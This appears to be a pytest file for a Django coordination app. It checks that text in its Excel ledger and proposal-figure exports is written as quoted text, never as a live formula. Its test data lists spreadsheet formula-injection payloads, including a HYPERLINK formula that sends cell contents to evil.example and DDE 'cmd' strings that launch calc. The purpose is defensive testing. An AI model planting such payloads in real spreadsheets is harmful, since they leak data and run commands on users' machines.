"""Users' text never becomes a live formula in an Excel export (ledger, proposal figures)."""

import datetime
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from coordination import ledger, services
from coordination.models import ActionItem, Proposal
from coordination.spreadsheets import append_row, table_workbook, workbook_bytes

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '＝HYPERLINK("http://evil.example")',
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def formulas_in(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def cells(data: bytes):
    return [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_like_string_is_written_as_quoted_text(text):
    book = Workbook()
    append_row(book.active, ["序号", text, -5])
    data = workbook_bytes(book)
    assert formulas_in(data) == []
    number, cell, negative = cells(data)
    assert (cell.value.strip(), cell.data_type, cell.quotePrefix) == (text.strip(), "s", True)  # XML reads CR as LF
    assert (negative.value, negative.quotePrefix) == (-5, False)  # numbers stay numbers


def test_ordinary_text_keeps_the_plain_style():
    book = Workbook()
    append_row(book.active, ["区民政局", "已完成 80%"])
    assert [c.quotePrefix for c in cells(workbook_bytes(book))] == [False, False]


@pytest.mark.django_db
def test_a_progress_report_with_a_formula_is_text_in_the_ledger(item, liaisons, units):
    attack = ATTACKS[0]
    services.action_item_report_progress(
        actor=liaisons["lead"], item=item, unit=units[5], text=attack, percent=10, completion=False, files=[]
    )
    data = ledger.ledger_workbook(ActionItem.objects.all())
    assert formulas_in(data) == []
    [cell] = [c for c in cells(data) if c.value == attack]
    assert cell.quotePrefix and cell.data_type == "s"


@pytest.mark.django_db
def test_proposal_figures_export_writes_a_formula_like_unit_name_as_text(client, office_user, units):
    name = '=HYPERLINK("http://evil.example","区民政局")'
    units[5].short_name = name
    units[5].save(update_fields=["short_name"])
    Proposal.objects.create(
        kind="npc",
        session="区第十九届人大",
        number="1",
        title="关于救助的建议",
        received_on=datetime.date(2026, 3, 1),
        lead_unit=units[5],
    )
    client.force_login(office_user)
    response = client.get("/workbench/proposals/figures/", {"format": "xlsx"})
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    [cell] = [c for c in cells(response.content) if c.value == name]
    assert cell.quotePrefix


def test_a_long_sheet_title_is_cut_to_what_excel_opens():
    data = table_workbook("Figures on suggestions and proposals", ["a"], [[1]])
    assert load_workbook(io.BytesIO(data)).active.title == "Figures on suggestions and prop"
